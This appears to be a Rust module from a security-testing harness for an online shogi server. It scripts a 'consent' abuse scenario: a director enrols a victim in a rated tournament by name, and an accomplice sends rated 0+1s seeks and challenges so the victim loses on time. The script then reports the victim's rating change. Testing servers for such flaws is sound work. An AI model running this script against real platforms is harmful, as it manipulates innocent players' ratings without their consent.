//! `consent`: rated games a victim never plays, on a 0+1s byoyomi clock: a director (the
//! attacker) enters the victim by name into a rated online Swiss, an accomplice joins, and
//! the director starts it; the accomplice posts a rated seek and sends a rated challenge,
//! which the victim accepts and then never moves in. The victim's rating before and after
//! and each game's outcome (waiting at most `--seconds` for them to end).

use super::client::{Account, Auth, call, call_raw, expect, said, source};
use super::kit::{Opts, Report, Tally, Target, Watch};
use serde_json::{Value, json};
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

/// How often the games are read while the attack waits for their ends.
const POLL: Duration = Duration::from_millis(250);

/// The accomplice's challenge: rated, no main time, a byoyomi of one second, the victim
/// sente (so that the victim's clock is the first to run).
const CHALLENGE: &str =
    "rated=true&clock.limit=0&clock.byoyomi=1&clock.periods=1&color=gote&variant=standard";

/// Runs the attack (see the module's comment).
pub async fn run(target: Target, opts: &Opts) -> Result<Report, String> {
    let addr = target.addr;
    let here = Some(source(0, opts.addresses));
    let director = Account::sign_up(addr, here, "Director").await?;
    let accomplice = Account::sign_up(addr, here, "Accomplice").await?;
    let victim = Account::sign_up(addr, here, "Victim").await?;
    let before = rating(addr, here, &victim.name).await?;

    let watch = Watch::start(target, opts).await;
    let tally = Tally::new();
    let mut games = Vec::new();
    let swiss = tournament(addr, here, &director, &accomplice, &victim, &tally).await?;
    games.extend(swiss.map(|id| ("tournament", id)));
    let seek = json!({"time_control": "0+1s", "rated": true, "side": "gote"});
    let posted = call(
        here,
        addr,
        "POST",
        "/api/lobby/seeks",
        &accomplice.bearer(),
        Some(&seek),
    )
    .await;
    let posted = expect("the accomplice's seek", posted, 201)?;
    let path = format!(
        "/api/lobby/seeks/{}/accept",
        posted["id"].as_str().unwrap_or("")
    );
    let taken = call(here, addr, "POST", &path, &victim.bearer(), None).await;
    tally.add(format!("the victim takes the rated seek: {}", said(&taken)));
    if let Ok((201, taken)) = &taken {
        games.extend(taken["game"].as_str().map(|id| ("seek", id.to_string())));
    }
    let form = Some(("application/x-www-form-urlencoded", CHALLENGE.to_string()));
    let path = format!("/api/challenge/{}", victim.name);
    let sent = call_raw(here, addr, "POST", &path, &accomplice.bearer(), form).await?;
    let challenge: Value = serde_json::from_str(&sent.body).unwrap_or(Value::Null);
    if let Some(id) = challenge["id"].as_str() {
        let path = format!("/api/challenge/{id}/accept");
        let accepted = call(here, addr, "POST", &path, &victim.bearer(), None).await;
        tally.add(format!(
            "the victim accepts the rated challenge: {}",
            said(&accepted)
        ));
        games.push(("challenge", id.to_string()));
    } else {
        tally.add(format!(
            "the rated challenge: {} {}",
            sent.status, sent.body
        ));
    }

    let mut notes = Vec::new();
    let stop = watch.stop();
    let outcomes = loop {
        let mut outcomes = Vec::new();
        for (kind, id) in &games {
            outcomes.push((kind, id, game_outcome(addr, here, id).await));
        }
        if stop.is_set() || outcomes.iter().all(|(_, _, o)| o.is_some()) {
            break outcomes;
        }
        tokio::time::sleep(POLL).await;
    };
    for (kind, id, outcome) in outcomes {
        let outcome = outcome.unwrap_or_else(|| "undecided when the attack ended".to_string());
        notes.push(format!("{kind} game {id}: {outcome}"));
    }
    notes.push(format!("the victim's rating before: {before}"));
    notes.push(format!(
        "the victim's rating after: {}",
        rating(addr, here, &victim.name).await?
    ));
    Ok(watch.finish("consent", &tally, notes).await)
}

/// The rated Swiss of the attack: the director enters the victim by name, the accomplice
/// joins, the director starts it; the accomplice makes its first move if sente. The game
/// id if a game started.
async fn tournament(
    addr: SocketAddr,
    from: Option<IpAddr>,
    director: &Account,
    accomplice: &Account,
    victim: &Account,
    tally: &Tally,
) -> Result<Option<String>, String> {
    let body = json!({
        "name": "Blitz night", "format": "swiss", "rounds": 1, "online": true, "rated": true,
        "clock": {"initial_s": 0, "byoyomi_s": 1, "periods": 1}, "no_show_s": 5,
    });
    let made = call(
        from,
        addr,
        "POST",
        "/api/tournaments",
        &director.bearer(),
        Some(&body),
    )
    .await;
    let made = expect("the tournament", made, 201)?;
    let id = made["id"].as_str().ok_or("a tournament without id")?;
    let path = |what: &str| format!("/api/tournaments/{id}/{what}");
    let entry = json!({"name": victim.name, "rating": 1500, "account": victim.name});
    let entered = call(
        from,
        addr,
        "POST",
        &path("players"),
        &director.bearer(),
        Some(&entry),
    )
    .await;
    tally.add(format!(
        "the director enters the victim: {}",
        said(&entered)
    ));
    let joined = call(
        from,
        addr,
        "POST",
        &path("join"),
        &accomplice.bearer(),
        None,
    )
    .await;
    tally.add(format!("the accomplice joins: {}", said(&joined)));
    let started = call(from, addr, "POST", &path("start"), &director.bearer(), None).await;
    tally.add(format!("the director starts the event: {}", said(&started)));
    let Ok((200, view)) = started else {
        return Ok(None);
    };
    let board = &view["rounds"][0]["boards"][0];
    let Some(game) = board["game"].as_str() else {
        return Ok(None);
    };
    let accomplice_n = view["players"]
        .as_array()
        .and_then(|players| {
            players
                .iter()
                .find(|p| p["username"] == accomplice.name.as_str())
        })
        .map(|p| p["n"].clone());
    if accomplice_n.is_some_and(|n| n == board["sente"]) {
        let path = format!("/api/board/game/{game}/move/7g7f");
        let form = Some(("application/x-www-form-urlencoded", String::new()));
        call_raw(from, addr, "POST", &path, &accomplice.bearer(), form).await?;
    }
    Ok(Some(game.to_string()))
}

/// Game `id`'s ending in words, or `None` while it goes on.
async fn game_outcome(addr: SocketAddr, from: Option<IpAddr>, id: &str) -> Option<String> {
    let (_, game) = call(
        from,
        addr,
        "GET",
        &format!("/api/games/{id}"),
        &Auth::None,
        None,
    )
    .await
    .ok()?;
    let outcome = &game["outcome"];
    if outcome.is_null() {
        return None;
    }
    let reason = outcome["reason"].as_str().unwrap_or("?");
    let moves = game["moves"].as_array().map_or(0, Vec::len);
    Some(match outcome["winner"].as_str() {
        Some(winner) => format!("{winner} wins ({reason}) after {moves} moves"),
        None => format!("{reason} after {moves} moves"),
    })
}

/// `name`'s ratings in words: each pool with rated games, or that there is none.
async fn rating(addr: SocketAddr, from: Option<IpAddr>, name: &str) -> Result<String, String> {
    let path = format!("/api/user/{name}");
    let user = expect(
        "the victim's profile",
        call(from, addr, "GET", &path, &Auth::None, None).await,
        200,
    )?;
    let pools: Vec<String> = user["perfs"]
        .as_object()
        .into_iter()
        .flatten()
        .filter(|(_, perf)| perf["games"].as_u64().unwrap_or(0) > 0)
        .map(|(pool, perf)| {
            format!(
                "{pool} {} after {} rated games",
                perf["rating"], perf["games"]
            )
        })
        .collect();
    Ok(if pools.is_empty() {
        "no rated game".to_string()
    } else {
        pools.join(", ")
    })
}
